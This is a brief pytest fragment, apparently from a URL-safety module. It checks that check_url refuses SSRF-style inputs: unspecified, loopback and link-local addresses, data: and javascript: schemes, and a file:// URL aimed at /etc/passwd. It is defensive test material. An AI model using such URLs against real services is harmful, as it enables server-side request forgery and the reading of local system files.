    for url in ("http://0.0.0.0/", "http://[::]/", "https://[::ffff:0.0.0.0]/", "data:,x", "javascript:x",
                "file://localhost/etc/passwd", "ws://127.0.0.1/", "http://[fe80::1%25eth0]/"):  # fmt: skip
        with pytest.raises(RefusedURL):
            check_url(url, AddressPolicy())
